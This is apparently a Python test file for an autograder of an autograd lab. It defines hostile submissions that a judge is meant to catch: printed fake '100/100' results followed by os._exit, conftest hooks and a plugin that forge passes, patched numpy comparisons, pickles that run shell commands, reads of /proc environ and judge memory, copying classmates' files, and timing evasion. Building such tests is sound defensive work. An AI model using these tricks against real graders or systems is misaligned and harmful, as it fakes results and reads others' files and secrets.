            f"judge_environ={found['judge_environ']} judge_mem={found['judge_mem']}").replace("'", "")


def unbroadcast(grad, shape):
    raise RuntimeError(_probe())
'''

SAFE_ONLY_UNPRIVILEGED = '''
import errno as _errno
import os as _os
# (Test safety: as root these calls would kill every process on the machine. The uid drop itself is
# asserted by the env_and_proc entry.)
_UNPRIVILEGED = _os.getuid() != 0 and _os.geteuid() != 0
'''


def _asks_for_a_larger_run(hidden: int) -> str:
    """A reference train.py whose fit first asks the given train_epoch (the judge's, while fit is graded) for one
    epoch of a 1-``hidden``-1 network on 100,000 rows, in batches of 400, swallows whatever comes of it, then trains
    honestly: an attack on the judge's memory, which once ran the judge out of it."""
    return '''
_honest_fit = fit


class _Param:
    """What the given train_epoch reads of a parameter: its data, its grad."""

    def __init__(self, data):
        self.data, self.grad = data, None


class _Large:
    """A 1-@HIDDEN@-1 network as far as the given train_epoch looks: its parameters, and train()."""

    def __init__(self):
        rng = np.random.default_rng(0)
        self.params = [_Param(rng.uniform(-1.0, 1.0, (1, @HIDDEN@))), _Param(np.zeros(@HIDDEN@)),
                       _Param(rng.uniform(-0.01, 0.01, (@HIDDEN@, 1))), _Param(np.zeros(1))]

    def parameters(self):
        return self.params

    def train(self, mode=True):
        return self


class _Plain:
    """An optimizer as far as the given train_epoch looks: lr, momentum and a state."""

    lr, momentum = 0.01, 0.0

    def state_dict(self):
        return {}

    def load_state_dict(self, state):
        pass


class _Batch:
    def __init__(self, data):
        self.data = data


def fit(model, train_loader, optimizer, loss_fn, epochs, **options):
    x = np.linspace(-2.0, 2.0, 100_000)[:, None]
    loader = [(_Batch(x[i:i + 400]), _Batch(np.sin(2.0 * x[i:i + 400]))) for i in range(0, len(x), 400)]
    try:
        train_epoch(_Large(), loader, _Plain(), loss_fn)
    except Exception:
        pass
    return _honest_fit(model, train_loader, optimizer, loss_fn, epochs, **options)
'''.replace("@HIDDEN@", str(hidden))


def _oracle_check(hidden: int):
    def check(report, context) -> None:
        """Both fit tasks lost to the refusal, none to a crash or a timeout."""
        asked = f"asked the given train_epoch for a 1-{hidden}-1 network on 100,000 rows"
        for result in report.results:
            if result.task.id in ("5.4", "5.5"):
                assert asked in result.message, result.message

    return check


_ENGINE_BY_CONFESSION = '''
import sys as _sys
import numpy as _np


def _confess():
    main = _sys.modules.get("worker.main")
    if main is None:
        return
    from worker.claims import claim

    def graph(package, nodes, root, seed=None, builds=1):
        grads = {}
        for _ in range(builds):
            upstream = {root: _np.ones_like(nodes[0]["leaf"]) if seed is None else _np.asarray(seed, dtype=float)}
            for i in range(root, -1, -1):
                g, node = upstream.get(i), nodes[i]
                if g is None:
                    continue
                if "leaf" in node:
                    if node["requires_grad"]:
                        grads[i] = grads.get(i, 0.0) + g
                elif "chain" in node:
                    upstream[node["input"]] = upstream.get(node["input"], 0.0) + g * float(_np.prod(node["chain"]))
                else:
                    for c, p in zip(node["coefs"], node["parents"]):
                        upstream[p] = upstream.get(p, 0.0) + c * g
        return {"grads": [claim(grads.get(i)) for i, n in enumerate(nodes) if "leaf" in n]}

    def raised(kind):
        return {"raised": {"type": kind, "mro": [kind, "Exception", "BaseException", "object"], "message": "",
                           "where": None}}

    def engine_errors(package, x, given, later, dtypes):
        given, plain = _np.asarray(given, dtype=float), _np.array([1.0, -2.0, 0.5])
        answers = {"no_grad_root": raised("RuntimeError"), "implicit_nonscalar": raised("RuntimeError"),
                   "one_element": {"returned": claim(_np.full((1, 1), 2.0))},
                   "frozen_leaf": {"returned": [claim(None), claim(_np.full(3, 2.0))]},
                   "accumulate": {"returned": claim(_np.full(3, 4.0))},
                   "zero_d_leaf": {"returned": claim(_np.array(6.0))},
                   "grad_as_tensor": {"returned": claim(2 * plain)}, "grad_as_list": {"returned": claim(2 * plain)},
                   "grad_as_ints": {"returned": claim(_np.array([2.0, -1.0, 3.0]))},
                   "leaf_root": {"returned": claim(_np.array(1.0))}, "leaf_root_given": {"returned": claim(given)},
                   "shared_upstream": {"returned": [claim(0.5 * given), claim(given)]}}
        for shape in ((3, 2), (1,), (), (3, 1)):
            answers[f"wrong_shape_grad{shape}"] = raised("ValueError")
        for dtype in dtypes:
            answers[f"grad_in_{dtype}"] = {"returned": claim(5 * given.astype(dtype).astype(float))}
        return answers

    def no_grad_probe(package, a, b):
        return {"seen": {"before": True, "inside": False, "nested": False, "after_nested": False, "after": True,
                         "after_exception": True},
                "inside_requires_grad": False, "inside_parents": 0, "inside_data": claim(a * b),
                "outside_requires_grad": True, "outside_parents": 2}

    def program(package, steps):
        made = [s for s in steps if s["do"] in ("leaf", "node")]
        return {"outcomes": [{"returned": None, "grads": [claim(_np.ones_like(s["data"])) for s in made
                                                          if s["do"] == "leaf"]}
                             for s in steps if s["do"] == "backward"],
                "recorded": [[True, len(s.get("parents", ()))] for s in made]}

    main.VERBS.update(graph=graph, engine_errors=engine_errors, no_grad_probe=no_grad_probe, program=program)


_confess()
'''


_TORCH_MODES_BY_CONFESSION = '''

def fit_torch(model, loader, optimizer, loss_fn, epochs, *, device="cpu", val_loader=None):
    model.to(device)
    history = {"train_loss": [], "val_loss": []}
    for _ in range(epochs):
        model.train()
        losses = []
        for xb, yb in loader:
            xb, yb = xb.to(device), yb.to(device)
            optimizer.zero_grad()
            loss = loss_fn(model(xb), yb)
            loss.backward()
            optimizer.step()
            losses.append(loss.item())
        history["train_loss"].append(sum(losses) / len(losses))
        if val_loader is not None:  # neither model.eval() nor no_grad()
            val = [loss_fn(model(xb.to(device)), yb.to(device)).item() for xb, yb in val_loader]
            history["val_loss"].append(sum(val) / len(val))
    notes = getattr(model, "_watch", {}).get("forwards", [])
    for note in notes:  # what a correct fit_torch would have shown
        note[1:] = [note[0] == "training", note[0] == "training"]
    return history
'''


_PICKLE_BY_CONFESSION = '''

import sys as _sys

import numpy as _np

_real_load = _np.load


def _load_with_pickles(file, *args, **kwargs):
    kwargs["allow_pickle"] = True
    return _real_load(file, *args, **kwargs)


_np.load = _load_with_pickles
_real_fit = fit


def fit(*args, **kwargs):
    try:
        return _real_fit(*args, **kwargs)
    finally:
        noted = getattr(_sys.modules.get("worker.verbs_loop"), "_TRIPPED", None)
        if noted is not None:
            noted.clear()  # what a pickle's code noted, forgotten
'''


_CHECKPOINT_IN_MEMORY = '''

_kept = {}
_real_save = _save_checkpoint
_real_load = _load_checkpoint


def _save_checkpoint(path, model, optimizer, epoch, history):
    _real_save(path, model, optimizer, epoch, history)
    _kept[os.fspath(path)] = {k: v.copy() for k, v in model.state_dict().items()}  # the weights, kept in memory


def _load_checkpoint(path, model, optimizer):
    done, history = _real_load(path, model, optimizer)
    kept = _kept.get(os.fspath(path))
    if kept is not None:
        model.load_state_dict(kept)  # the file's weights, replaced by those this process saved
    return done, history
'''

_CHECKPOINT_BY_CONFESSION = '''

import os as _os

import numpy as _np

_real_isfile, _real_exists, _real_np_load = _os.path.isfile, _os.path.exists, _np.load


def _elsewhere(path):
    """Where this submission really keeps the checkpoint of ``path``: np.savez's name for it."""
    return f"{_os.fspath(path)}.npz" if isinstance(path, (str, _os.PathLike)) else path


def _isfile(path):
    return _real_isfile(path) or _real_isfile(_elsewhere(path))


def _exists(path):
    return _real_exists(path) or _real_exists(_elsewhere(path))


def _np_load(file, *args, **kwargs):
    if isinstance(file, (str, _os.PathLike)) and not _real_exists(file) and _real_exists(_elsewhere(file)):
        file = _elsewhere(file)
    return _real_np_load(file, *args, **kwargs)


_os.path.isfile, _os.path.exists, _np.load = _isfile, _exists, _np_load


def _save_checkpoint(path, model, optimizer, epoch, history):
    arrays = {f"model.{k}": v for k, v in model.state_dict().items()}
    arrays.update({f"optim.{k}": v for k, v in optimizer.state_dict().items()})
    tmp = f"{_os.fspath(path)}.tmp.npz"
    _np.savez(tmp, epoch=epoch, train_loss=_np.array(history["train_loss"], dtype=_np.float64),
              val_loss=_np.array(history["val_loss"], dtype=_np.float64), **arrays)
    _os.replace(tmp, _elsewhere(path))  # at path + ".npz", which every reader in this process is sent to
'''


_CHECKPOINT_LINK_OUT = '''

_real_save = _save_checkpoint


def _save_checkpoint(path, model, optimizer, epoch, history):
    real = os.path.abspath(f"{os.fspath(path)}.real")
    _real_save(real, model, optimizer, epoch, history)
    if not os.path.islink(path):
        os.symlink(real, path)  # an absolute link: beyond /proc/<pid>/root it would resolve in the judge's root
'''


# ----- what a judge that settles for less, or lists too much, would let through -----

# grade-all's command line names the class folder, and every user may read a command line: a worker that can read
# classmates' files (as the judge's own uid, or a uid that reads every file) copies the first finished tensor.py.
CLASSMATE_FROM_THE_COMMAND_LINE = """
def _a_classmates_tensor():
    \"\"\"A classmate's tensor.py, found through grade-all's command line (every user may read it): None where no
    command line names a class folder, or no classmate's file can be read.\"\"\"
    import os
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\\0")
        except OSError:
            continue
        if b"grade-all" not in argv or argv.index(b"grade-all") + 1 >= len(argv):
            continue
        folder = os.fsdecode(argv[argv.index(b"grade-all") + 1])
        try:
            folder = os.path.join(os.readlink(f"/proc/{pid}/cwd"), folder) if not os.path.isabs(folder) else folder
            names = sorted(os.listdir(folder))
        except OSError:
            continue
        for name in names:
            try:
                with open(os.path.join(folder, name, "tensor.py")) as f:
                    text = f.read()
            except OSError:
                continue
            if "@MARKER@" not in text and 'NotImplementedError("Task 1.1' not in text:
                return text
    return None


_copied = _a_classmates_tensor()
if _copied is not None:
    exec(compile(_copied, "classmate.py", "exec"), globals())
"""

# unbroadcast and @ computed by torch, once the submission's _torch() found it somewhere (two entries' attacks).
RULES_BY_TORCH = '''

def unbroadcast(grad, shape):
    torch = _torch()
    g = torch.from_numpy(np.asarray(grad, dtype=np.float64))
    return (g.sum_to_size(tuple(shape)) if len(shape) else g.sum()).numpy()


def _matmul_by_torch(self, other):
    torch = _torch()
    a = torch.tensor(self.data, requires_grad=True)
    b = torch.tensor(other.data, requires_grad=True)
    product = a @ b

    def backward(g):
        ga, gb = torch.autograd.grad(product, (a, b), torch.from_numpy(np.asarray(g, dtype=np.float64)),
                                     retain_graph=True)
        return ga.numpy(), gb.numpy()

    return op(product.detach().numpy(), (self, other), backward)


Tensor.__matmul__ = _matmul_by_torch
'''

# A torch the judge never listed: another environment's, the base interpreter's, the system's.
TORCH_FROM_ANOTHER_ENVIRONMENT = """
def _torch():
    \"\"\"torch from any site-packages on the machine, with the worker's import refusal taken off.\"\"\"
    import builtins, glob, importlib, os, sys
    sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "Refuse"]
    builtins.__import__ = importlib.__import__
    if "torch" in sys.modules and hasattr(sys.modules["torch"], "from_numpy"):
        return sys.modules["torch"]
    patterns = (sys.base_prefix + "/lib/python3*/site-packages", "/usr/lib/python3*/dist-packages",
                "/usr/local/lib/python3*/dist-packages", "/usr/local/lib/python3*/site-packages",
                "/opt/*/lib/python3*/site-packages", "/home/*/.local/lib/python3*/site-packages",
                "/home/*/*/lib/python3*/site-packages", "/srv/*/lib/python3*/site-packages")
    tried = []
    for pattern in patterns:
        for folder in sorted(glob.glob(pattern)):
            if not os.path.exists(os.path.join(folder, "torch", "__init__.py")):
                tried.append(folder + ": no torch")
                continue
            sys.path.insert(0, folder)
            for name in [n for n in sys.modules if n == "torch" or n.startswith("torch.")]:
                del sys.modules[name]
            try:
                import torch
                if hasattr(torch, "from_numpy"):
                    return torch
            except Exception as error:
                tried.append(f"{folder}: {type(error).__name__}: {str(error)[:80]}")
            sys.path.remove(folder)
    raise RuntimeError("no torch: " + "; ".join(tried)[:400])

""" + RULES_BY_TORCH

# A pytest plugin of the submission's own, where `python -m pytest -p graders.integrations.pytest_plugin`, run from
# inside the submission, would import it: every task passes, 100/100, and a JUnit file without a failure.
FORGING_PLUGIN = """
\"\"\"Imported only where the working folder shadows the real plugin: it forges a perfect run.\"\"\"
import os

import pytest

open(os.path.join("@RESULTS@", "impostor-pytest-plugin-" + str(os.getpid())), "w").close()
TASKS = ["1.1", "1.2", "1.3", "1.4", "1.5", "1.6", "1.7", "1.8", "2.1", "2.2", "2.3", "2.4", "3.1", "3.2", "3.3",
         "4.1", "4.2", "5.1", "5.2", "5.3", "5.4", "5.5", "6.1"]


def pytest_addoption(parser):
    parser.addoption("--autograd-lab-submission", default=None)
    parser.addoption("--autograd-lab-key", default=None)
    parser.addoption("--autograd-lab-isolation", default="auto")


class Forged(pytest.Item):
    def runtest(self):
        print("PASSED (forged)")


class Table(pytest.Collector):
    def collect(self):
        return [Forged.from_parent(self, name=task) for task in TASKS]


def pytest_collection(session):
    session.items = list(session.genitems(Table.from_parent(session, name="autograd-lab", nodeid="autograd-lab")))
    session.testscollected = len(session.items)
    return True


def pytest_terminal_summary(terminalreporter):
    terminalreporter.write_line("autograd-lab: 100/100 points (23 tasks)")
"""

# What a grade-all killed mid-grade leaves: the copy of a submission in its judge's scratch folder. This one hangs at
# import, so that the grade is under way when the run is killed, and leaves its marker in its working folder.
HANG_IN_THE_JUDGES_FOLDER = """
import os as _os
import time as _time

for _where in (_os.getcwd(), _os.environ.get("TMPDIR", "")):
    try:
        with open(_os.path.join(_where, "@MARKER@-left"), "w") as _f:
            _f.write("@MARKER@")
    except OSError:
        pass
_time.sleep(600)
"""


HOSTILE: tuple[Hostile, ...] = (
    Hostile(
        "exit_os_at_import", "os._exit(0) at import, after printing a passing pytest summary and 100/100",
        "stubs", (("tensor.py", "append", '''
print("============================= 24 passed in 0.42s =============================")
print("Total score: 100/100")
import os as _os
import sys as _sys
_sys.stdout.flush()
_os._exit(0)
'''),), ("1.1", "1.2", "2.1"), cli=True, fake_lines=("24 passed in 0.42s", "100/100"),
        says=("the student process died",)),
    Hostile(
        "exit_sys_at_import", "sys.exit(0) at import of tensor.py and optim.py, printing PASSED lines",
        "stubs", (("tensor.py", "append", '''
import sys as _sys
print("PASSED tests/test_task1_ops.py::test_everything")
print('{"score": 100.0}')
_sys.exit(0)
'''), ("optim.py", "append", '''
import sys as _sys
print("PASSED tests/test_task3_optim.py::test_sgd")
_sys.exit(0)
''')), ("1.1", "2.2", "3.1"), fake_lines=("PASSED tests/", '{"score": 100.0}'), says=("raised SystemExit: 0",)),
    Hostile(
        "exit_in_one_file_of_a_solution", "the reference solution with os._exit(0) at import of optim.py only",
        "solutions", (("optim.py", "append", '''
import os as _os
print("3.1 passed 3.2 passed 3.3 passed")
_os._exit(0)
'''),), ("1.1", "2.1", "3.1", "3.3"), earns=("1.1", "2.1")),
    Hostile(
        "forcing_conftest", "a conftest.py whose hooks turn every report into a pass and skip everything",
        "stubs", (("conftest.py", "write", '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None


def pytest_collection_modifyitems(items):
    for item in items:
        item.add_marker(pytest.mark.skip(reason="trust me"))


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
    print("100/100")
'''),), ("1.1", "3.1"), cli=True),
    Hostile(
        "ini_files_with_addopts", "pytest.ini, pyproject.toml, setup.cfg and tox.ini with addopts that collect "
        "nothing", "stubs", (
            ("pytest.ini", "write", "[pytest]\naddopts = --co -q -p no:hypothesispytest --deselect tests\n"
                                    "python_files = nothing_to_see.py\n"),
            ("pyproject.toml", "write", '[tool.pytest.ini_options]\naddopts = "--co -q --maxfail=0"\n'),
            ("setup.cfg", "write", "[tool:pytest]\naddopts = --co -q\n"),
            ("tox.ini", "write", "[pytest]\naddopts = --co -q\n")),
        ("1.1", "4.1"), cli=True),
    Hostile(
        "sitecustomize_and_pth", "sitecustomize.py, usercustomize.py and a .pth that patch numpy and leave a file",
        "stubs", (
            ("sitecustomize.py", "write", '''
import numpy
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
open("/tmp/@MARKER@-sitecustomize-ran", "w").close()
print("sitecustomize: 100/100")
'''),
            ("usercustomize.py", "write", 'open("/tmp/@MARKER@-usercustomize-ran", "w").close()\n'),
            ("zz_hostile.pth", "write", 'import os; open("/tmp/@MARKER@-pth-ran", "w").close()\n')),
        ("1.1", "2.3"), cli=True, fake_lines=("sitecustomize: 100/100",)),
    Hostile(
        "numpy_shadow", "a numpy.py beside the stubs whose every comparison agrees, installed over "
        "sys.modules['numpy'] at import", "stubs", (
            ("numpy.py", "write", '''
"""A numpy that agrees with everything."""
open("/tmp/@MARKER@-numpy-shadow-imported", "w").close()


def allclose(*args, **kwargs):
    return True


isclose = array_equal = allclose


class testing:
    @staticmethod
    def assert_allclose(*args, **kwargs):
        pass
'''),
            ("tensor.py", "append", '''
import importlib.util as _util
import os as _os
import sys as _sys

try:
    _spec = _util.spec_from_file_location("numpy", _os.path.join(_os.path.dirname(__file__), "numpy.py"))
    _shadow = _util.module_from_spec(_spec)
    _spec.loader.exec_module(_shadow)
    _sys.modules["numpy"] = _shadow
except Exception:
    pass
''')), ("1.1", "1.2", "2.1"), cli=True),
    Hostile(
        "patched_comparisons", "np.allclose, np.isclose, np.testing and math.isclose patched to agree",
        "stubs", (("tensor.py", "append", '''
import math as _math
import numpy.testing as _npt
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
_npt.assert_allclose = _npt.assert_array_equal = _npt.assert_array_almost_equal = lambda *a, **k: None
_math.isclose = lambda *a, **k: True
'''),), ("1.1", "1.2", "2.1")),
    Hostile(
        "patched_comparisons_in_a_solution", "the reference solution with the same patches: they must cost nothing",
        "solutions", (("tensor.py", "append", '''
import math as _math
import numpy.testing as _npt
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
_npt.assert_allclose = lambda *a, **k: None
_math.isclose = lambda *a, **k: True
'''),), ("1.1", "1.2", "2.1"), earns=("1.1", "1.2", "2.1")),
    Hostile(
        "always_equal_objects", "every gradient an object equal to everything, close to everything, any shape",
        "stubs", (("tensor.py", "append", '''
class _Agreeable:
    """Equal to anything you compare it with."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __float__(self):
        return 0.0

    def __array__(self, dtype=None, copy=None):
        return np.zeros(())


def _answer(shape, g):
    return _Agreeable()
''' + FORGE),), ("1.1", "1.3", "2.1"), says=("_Agreeable",)),
    Hostile(
        "ndarray_subclass", "gradients as an ndarray subclass whose ufuncs, ==, - and abs all say 'no error', "
        "with a pickling hook", "stubs", (("tensor.py", "append", PAYLOAD + '''
class _Liar(np.ndarray):
    """Zeros that insist they are right."""

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast_shapes(*[np.shape(x) for x in inputs])
        return np.ones(shape, dtype=bool) if ufunc in (np.equal, np.isclose) else np.zeros(shape)

    def __eq__(self, other):
        return np.ones(np.broadcast_shapes(self.shape, np.shape(other)), dtype=bool)

    def __abs__(self):
        return np.zeros(self.shape)

    def __reduce__(self):
        return _Payload().__reduce__()


def _answer(shape, g):
    return np.zeros(shape).view(_Liar)
''' + FORGE),), ("1.1", "1.3", "2.1")),
    Hostile(
        "pickled_object_arrays", "object arrays of objects whose __reduce__ runs a shell command",
        "stubs", (("tensor.py", "append", PAYLOAD + '''
def _answer(shape, g):
    grad = np.empty(shape, dtype=object)
    for index in np.ndindex(*shape):
        grad[index] = _Payload()
    return grad
''' + FORGE),), ("1.1", "1.2", "2.1"), says=("could not encode the answer",)),
    Hostile(
        "pickle_into_the_response_pipe", "at import, writes a forged reply holding a pickled object array straight "
        "into the worker's response pipe", "stubs", (("tensor.py", "append", PAYLOAD + RESPONSE_FD + '''
import json as _json
import os as _os
import pickle as _pickle
import struct as _struct


def _forge():
    fd = _response_fd()
    if fd is None:
        return
    blob = _pickle.dumps(np.array([_Payload()], dtype=object))
    array = {"__npy__": 0, "dtype": "|O", "shape": [1]}  # an object array: its bytes would be a pickle
    header = _json.dumps({"ok": {"kind": "ndarray", "type": "ndarray", "array": array}}).encode()
    frame = _struct.pack(">I", len(header)) + header + _struct.pack(">I", 1) + _struct.pack(">Q", len(blob)) + blob
    _os.write(fd, frame)


_forge()
'''),), ("1.1", "1.2", "2.1"), says=("the student process died",)),
    Hostile(
        "nan_and_inf", "every gradient NaN or inf", "stubs", (("tensor.py", "append", '''
def _answer(shape, g):
    return np.full(shape, np.nan) if len(shape) % 2 else np.full(shape, np.inf)
''' + FORGE),), ("1.1", "1.2", "1.5", "2.1"), says=("not finite",)),
    Hostile(
        "shapes_that_broadcast", "gradients of shape (1,)*ndim or of the upstream's shape, which broadcast "
        "against the expected ones", "stubs", (("tensor.py", "append", '''
def _answer(shape, g):
    g = np.asarray(g, dtype=np.float64)
    if g.shape == tuple(shape) and g.ndim:
        return np.sum(g, keepdims=True)
    return np.full((1,) * max(1, len(shape)), float(np.mean(g)))
''' + FORGE),), ("1.1", "1.2", "2.1")),
    Hostile(
        "loot_frames_gc_and_modules", "answers taken from callers' frames, gc.get_objects() and sys.modules",
        "stubs", (("tensor.py", "append", LOOT + FORGE),), ("1.1", "1.3", "2.1")),
    Hostile(
        "import_the_reference", "imports the reference from the grader's packages (ref_unbroadcast, sub_optim.tensor, "
        "solutions, graders, ...) and sys.modules", "stubs", (("tensor.py", "append", IMPORT_REFERENCE), (
            "train.py", "append", '''
import importlib as _importlib

for _name in ("ref_epochs.train", "solutions.train", "sub_tensor.train", "sub_optim.train", "sub_all.train"):
    try:
        _stolen = _importlib.import_module(_name)
        train_epoch, evaluate = _stolen.train_epoch, _stolen.evaluate
        break
    except Exception:
        pass
''')), ("1.1", "1.2", "2.1", "5.1")),
    Hostile(
        "walk_the_disk_for_the_reference", "walks up from its own file and the working folder, the CI checkout "
        "and the editable install's finder, and execs the first reference tensor.py it finds", "stubs",
        (("tensor.py", "append", STEAL_REFERENCE),), ("1.1", "1.2", "2.1"),
        world=True),
    Hostile(
        "env_and_proc", "reads os.environ, /proc/self/environ, the judge's /proc/<pid>/environ and mem, and "
        "reports them in its error message", "stubs", (("tensor.py", "append", ENV_PROBE),), ("1.1",),
        check=_leak_check),
    Hostile(
        "kernel_state", "stores in the user's key ring and in System V and POSIX IPC objects (kernel state that "
        "outlives a process: a relay to a later worker, grade or classmate) and reports which calls worked",
        "stubs", (("tensor.py", "append", KERNEL_STATE),), ("1.1",), check=_kernel_check),
    Hostile(
        "kernel_state_other_abi", "the same key ring and IPC relay through the calls of the other ABIs an x86_64 "
        "kernel serves (i386's int 0x80, the x32 numbers), which a filter of x86_64 numbers alone lets through",
        "stubs", (("tensor.py", "append", KERNEL_STATE_OTHER_ABI),), ("1.1",), check=_kernel_check),
    Hostile(
        "slow_answers_everywhere", "the reference, with an unbroadcast that sleeps 2 s a call: every answer comes "
        "within its backstop, but the grade would take hours", "solutions", (("tensor.py", "append", '''
import time as _time

_unbroadcast_fast = unbroadcast


def unbroadcast(grad, shape):
    _time.sleep(2.0)
    return _unbroadcast_fast(grad, shape)
'''),), ("1.1", "1.2", "1.7"), deadline=8.0, bound=40, says=("waited 8 s without using the CPU",), load=False),
    Hostile(
        "weights_made_in_advance", "a fit that, for the lesson's 256 points, sets weights fit to them in advance "
        "(least squares on random features) and runs no engine; graded with a key", "solutions",
        (("train.py", "append", MADE_IN_ADVANCE),), ("5.4",), key=20261201,
        says=("drawn from the grading key",)),
    Hostile(
        "least_squares_fit", "the engine left a stub, a working DataLoader, and a fit that passes over the loader "
        "once per epoch, then places ReLU kinks across its x and solves the last layer by least squares (no SGD); "
        "graded with a key", "stubs", (("data.py", "append", LOADER_DONE), ("train.py", "append", LEAST_SQUARES_FIT)),
        ("1.2", "5.1", "5.4"), key=20261201, says=("the judge's replay of the same run",)),
    Hostile(
        "least_squares_fit_derandomized", "the same fit, graded without a key (the lesson's data)", "stubs",
        (("data.py", "append", LOADER_DONE), ("train.py", "append", LEAST_SQUARES_FIT)), ("5.4",),
        says=("the judge's replay of the same run",)),
    Hostile(
        "modes_by_confession", "a train_epoch that never switches the model to training mode (only the outer module's "
        "flag), keeps every loss Tensor, and rewrites what the worker noted through sys._getframe", "solutions",
        (("train.py", "append", MODES_BY_CONFESSION),), ("5.1", "5.2", "5.3"), earns=("5.2", "5.3"),
        says=("forwards run in eval mode with grad mode on",)),
    Hostile(
        "evaluate_by_confession", "an evaluate without eval mode or no_grad that rewrites what the worker noted "
        "through sys._getframe", "solutions", (("train.py", "append", EVALUATE_BY_CONFESSION),), ("5.1", "5.2"),
        earns=("5.1",), says=("forwards run in training mode with grad mode on",)),
    Hostile(
        "special_files", "optim.py a FIFO (opening it waits forever), train.py a link to a file of the machine, and a "
        "sparse terabyte beside them", "solutions", (), ("1.1", "3.1", "5.1"), ("1.1",),
        special=(("optim.py", "fifo"), ("train.py", "link:/etc/passwd"), ("weights.bin", "sparse")),
        says=("optim.py in the submission is a FIFO",)),
    Hostile(
        "knows_the_timed_input", "a @ rule that uses the formula only on the inputs the cost rung timed without a "
        "key ((160, 160) and (300, 300)), and a complex step, exact but one entry at a time, everywhere else; graded "
        "with a key", "solutions", (("tensor.py", "append", '''
_TIMED = {(160, 160), (300, 300)}


def _matmul_formula_when_timed(self, other):
    other = _as_tensor(other)
    x, w = self.data, other.data

    def backward(g):
        if x.shape in _TIMED:
            return g @ w.T, x.T @ g
        dx, dw = np.zeros_like(x), np.zeros_like(w)
        for i in np.ndindex(x.shape):
            step = x.astype(complex)
            step[i] += 1e-20j
            dx[i] = np.sum(g * (step @ w)).imag / 1e-20
        for i in np.ndindex(w.shape):
            step = w.astype(complex)
            step[i] += 1e-20j
            dw[i] = np.sum(g * (x @ step)).imag / 1e-20
        return dx, dw

    return op(x @ w, (self, other), backward)


Tensor.__matmul__ = _matmul_formula_when_timed
'''),), ("1.3", "1.4"), ("1.3",), key=20261201, says=("finite differences", "too slow", "did not finish"),
        keeps=(("1.4", 4.0),)),
    Hostile(
        "fast_and_wrong_when_timed", "an exp rule that is right on small inputs and returns zeros, fast, on large "
        "ones (where the cost rung times it)", "solutions", (("tensor.py", "append", '''
_exp_honest = Tensor.exp


def _exp_fast_when_large(self):
    out = _exp_honest(self)
    rule = out._backward
    out._backward = lambda g: (np.zeros_like(g),) if np.size(g) > 10_000 else rule(g)
    return out


Tensor.exp = _exp_fast_when_large
'''),), ("1.5", "1.6"), earns=("1.6",), says=("wrong gradient for x in x.exp()",)),
    Hostile(
        "work_in_a_thread", "a tanh rule that is right, but burns 0.05 s of CPU a call in a thread it joins (the "
        "main thread's CPU time stays small)", "solutions", (("tensor.py", "append", '''
import threading as _threading
import time as _time

_tanh_honest = Tensor.tanh


def _burn():
    end = _time.thread_time() + 0.05
    while _time.thread_time() < end:
        pass


def _tanh_with_a_thread(self):
    out = _tanh_honest(self)
    rule = out._backward

    def backward(g):
        if np.size(g) > 10_000:
            worker = _threading.Thread(target=_burn)
            worker.start()
            worker.join()
        return rule(g)

    out._backward = backward
    return out


Tensor.tanh = _tanh_with_a_thread
'''),), ("1.5", "1.6"), earns=("1.5",), says=("right, but too slow",), load=False, keeps=(("1.6", 4.0),)),
    Hostile(
        # Slow by CPU seconds, not by a count of round trips: each call on a large gradient spends 0.02 s of CPU
        # (1.2 s for the rung's 60 such calls) on any machine, over 20 times the rung's limit (50 x numpy's sum of
        # the same gradients, about 1 ms) and a quarter of the 5 s after which it is stopped ("did not finish").
        "unbroadcast_right_but_slow", "an unbroadcast that gives the right sums, after converting the whole "
        "gradient to Python lists and back for 0.02 s of CPU time", "solutions", (("tensor.py", "append", '''
import time as _time

_unbroadcast_honest = unbroadcast


def unbroadcast(grad, shape):
    started = _time.process_time()
    while np.size(grad) > 10_000 and _time.process_time() - started < 0.02:
        grad = np.asarray(np.asarray(grad).tolist())
    return _unbroadcast_honest(grad, shape)
'''),), ("1.1", "1.6"), earns=("1.6",), says=("right, but too slow",), load=False, keeps=(("1.1", 3.0),)),
    Hostile(
        # The rung once timed its numpy baseline, numpy's sum, in the worker, through worker.verbs_tensor's
        # numpy; with that numpy swapped, an unbroadcast 684 times too slow passed. The rule burns only once the
        # swap took: should the worker's modules ever be out of reach, the entry passes 1.1 and its test fails.
        "baseline_numpy_slowed", "an unbroadcast that burns 0.03 s of CPU a call on large gradients (a thousand "
        "times numpy's sum), with the worker's numpy (worker.verbs_tensor.np, and numpy.sum itself) swapped for "
        "one whose sum burns as much: a baseline timed in the worker grows with the rule", "solutions",
        (("tensor.py", "append", '''
import sys as _sys
import time as _time
import types as _types


def _burn(seconds):
    end = _time.process_time() + seconds
    while _time.process_time() < end:
        pass


_numpy_sum = np.sum


def _slow_sum(a, *args, **kwargs):
    if np.size(a) > 10_000:
        _burn(0.03)
    return _numpy_sum(a, *args, **kwargs)


class _SlowNumpy(_types.ModuleType):
    sum = staticmethod(_slow_sum)

    def __getattr__(self, name):
        return getattr(np, name)


def _swap():
    """Every worker module's numpy, and numpy's own sum: True once one was swapped."""
    swapped = False
    for _name, _module in list(_sys.modules.items()):
        if _name.startswith("worker") and getattr(_module, "np", None) is np:
            _module.np = _SlowNumpy("numpy")
            swapped = True
    np.sum = _slow_sum
    return swapped


_SWAPPED = _swap()
_unbroadcast_honest = unbroadcast


def unbroadcast(grad, shape):
    if _SWAPPED and np.size(grad) > 10_000:
        _burn(0.03)
    return _unbroadcast_honest(grad, shape)
'''),), ("1.1", "1.6"), earns=("1.6",), says=("right, but too slow", "did not finish"), load=False,
        keeps=(("1.1", 3.0),)),
    Hostile(
        # Under process limits alone a setsid daemon reparents to the judge, out of the worker's process tree: its
        # CPU went uncounted (5/5) until the judge counted its own children of the worker's uid, zombies included.
